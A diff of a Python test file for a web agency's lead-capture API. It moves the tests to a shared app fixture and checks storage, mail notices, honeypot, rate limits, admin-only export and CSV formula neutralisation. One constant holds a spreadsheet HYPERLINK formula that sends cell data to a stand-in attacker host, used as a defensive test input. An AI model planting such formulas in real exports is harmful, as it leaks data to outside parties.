@@ -14,21 +14,13 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from agency.app import create_app
 from agency.core import mail
 from agency.modules.auth.service import admin as auth_admin
 from agency.modules.leads.models import Lead
 from agency.modules.leads.schemas import LeadOut
 from agency.modules.leads.service import leads as lead_service
-from tests.auth.helpers import HEADERS, call, sign_up
-from tests.conftest import make_settings, run_agency
-
-
-@pytest.fixture
-async def site(tmp_path: Path, database_url: str) -> Any:
-    app = create_app(make_settings(tmp_path, database_url, agency_email="team@agency.test"))
-    async with app.test_app() as test_app:
-        yield test_app
+from tests.conftest import run_agency
+from tests.helpers.http import HEADERS, call, sign_up
 
 
 @pytest.mark.parametrize(
@@ -53,22 +45,22 @@ async def site(tmp_path: Path, database_url: str) -> Any:
     ],
 )
 async def test_email_forms_store_the_lead_and_tell_the_agency(
-    site: Any, source: str, confirmation: str
+    app: Any, source: str, confirmation: str
 ) -> None:
-    client = site.test_client()
+    client = app.test_client()
     status, data = await call(
         client, "post", "/api/leads", {"source": source, "email": "Owner@Clinic.example"}
     )
     assert (status, data) == (201, {"message": confirmation})
     lead = await Lead.get()
     assert (lead.source, lead.email) == (source, "owner@clinic.example")
-    await site.app.extensions["agency.jobs"].drain()
+    await app.app.extensions["agency.jobs"].drain()
     [notice] = await mail.OutboundMail.all()
     assert notice.to == "team@agency.test" and "owner@clinic.example" in notice.subject
 
 
-async def test_free_preview_needs_every_field(site: Any) -> None:
-    client = site.test_client()
+async def test_free_preview_needs_every_field(app: Any) -> None:
+    client = app.test_client()
     for missing in ("name", "email", "domain"):
         body = {
             "source": "free-preview",
@@ -95,9 +87,9 @@ async def test_free_preview_needs_every_field(site: Any) -> None:
     assert (lead.name, lead.domain) == ("Ann", "ann-homes.com")
 
 
-async def test_honeypot_is_thanked_and_dropped(site: Any) -> None:
+async def test_honeypot_is_thanked_and_dropped(app: Any) -> None:
     status, data = await call(
-        site.test_client(),
+        app.test_client(),
         "post",
         "/api/leads",
         {
@@ -110,24 +102,24 @@ async def test_honeypot_is_thanked_and_dropped(site: Any) -> None:
     assert await Lead.all().count() == 0
 
 
-async def test_unknown_form_and_missing_email(site: Any) -> None:
-    client = site.test_client()
+async def test_unknown_form_and_missing_email(app: Any) -> None:
+    client = app.test_client()
     status, data = await call(client, "post", "/api/leads", {"source": "x", "email": "a@b.co"})
     assert status == 400 and data["error"]["message"] == "This form is not known."
     status, data = await call(client, "post", "/api/leads", {"source": "clinic-consultation"})
     assert status == 400 and data["error"]["message"] == "Please enter your email address"
 
 
-async def test_floods_are_limited_per_address(site: Any) -> None:
-    client = site.test_client()
+async def test_floods_are_limited_per_address(app: Any) -> None:
+    client = app.test_client()
     body = {"source": "clinic-consultation", "email": "a@b.co"}
     for _ in range(10):
         assert (await call(client, "post", "/api/leads", body))[0] == 201
     assert (await call(client, "post", "/api/leads", body))[0] == 429
 
 
-async def test_only_admins_see_and_export_leads(site: Any) -> None:
-    client = site.test_client()
+async def test_only_admins_see_and_export_leads(app: Any) -> None:
+    client = app.test_client()
     await call(client, "post", "/api/leads", {"source": "clinic-consultation", "email": "a@b.co"})
     await call(client, "post", "/api/leads", {"source": "ai-onboarding-audit", "email": "c@d.co"})
     assert (await call(client, "get", "/api/admin/leads"))[0] == 401
@@ -157,8 +149,8 @@ fixture_ok = settings(suppress_health_check=[HealthCheck.function_scoped_fixture
         max_size=6,
     )
 )
-async def test_no_input_gives_a_500(site: Any, body: dict[str, Any]) -> None:
-    response = await site.test_client().post("/api/leads", json=body, headers=HEADERS)
+async def test_no_input_gives_a_500(app: Any, body: dict[str, Any]) -> None:
+    response = await app.test_client().post("/api/leads", json=body, headers=HEADERS)
     assert response.status_code < 500
 
 
@@ -178,8 +170,8 @@ def test_cli_lists_and_exports(tmp_path: Path) -> None:
 FORMULA = '=HYPERLINK("http://evil.example/?l="&A1,"click")'
 
 
-async def test_the_csv_export_neutralises_formulas(site: Any) -> None:
-    client = site.test_client()
+async def test_the_csv_export_neutralises_formulas(app: Any) -> None:
+    client = app.test_client()
     lead = {"source": "free-preview", "email": "a@b.co", "name": FORMULA, "domain": "x.com"}
     assert (await call(client, "post", "/api/leads", lead))[0] == 201
     await sign_up(client)
